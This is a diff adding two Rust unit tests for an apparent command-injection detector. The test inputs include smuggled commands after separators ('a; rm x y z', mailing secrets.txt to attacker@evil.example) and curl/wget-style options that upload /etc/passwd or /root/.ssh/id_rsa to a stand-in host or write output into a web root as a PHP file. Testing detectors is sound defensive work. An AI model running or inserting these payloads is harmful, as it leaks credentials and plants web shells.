@@ -2950,3 +2950,68 @@ fn command_line_then_a_sentence_about_its_result() {
         assert!(hit(v), "{v}");
     }
 }
+
+#[test]
+fn known_command_with_plain_arguments_after_one_token() {
+    for v in [
+        "a; rm x y z",
+        "a; tar cf x.tar a",
+        "a; reboot now",
+        "ns1.example.com; dig axfr example.com",
+        "a & type secrets.txt",
+        "hello; mail attacker@evil.example < secrets.txt",
+        ";history",
+        ";ip a",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    for v in [
+        "salt & pepper",
+        "Tom & Jerry",
+        "a; b; c",
+        "rock & roll",
+        "R&D; sales",
+        "Sales; set up meeting",
+        "Note; copy a b",
+        "read; type faster",
+        "me & you",
+        "java & python",
+        "a; rm the old files",
+        "Hello; mail me the file.txt",
+        "tips; eval results",
+        "x; time flies",
+        "history of rome",
+        "art history",
+        "ip address",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+#[test]
+fn download_tool_options_that_redirect_or_upload() {
+    for v in [
+        "-e use_proxy=yes -e http_proxy=evil.example:8080",
+        "-e robots=off --execute=http_proxy=evil:8080",
+        "--execute=output_document=/var/www/html/x.php",
+        "-d @/etc/passwd http://evil.example",
+        "--data-binary @/root/.ssh/id_rsa",
+        "--dump-header /var/www/x.php",
+        "-D /var/www/html/x.php",
+        "> /var/www/html/x.php",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    for v in [
+        "-e robots=off",
+        "-e use_proxy=yes",
+        "-e http_proxy",
+        "-d @body.json",
+        "-d name=value",
+        "--dump-header headers.txt",
+        "-D out.txt",
+        "> quoted text about x.php",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
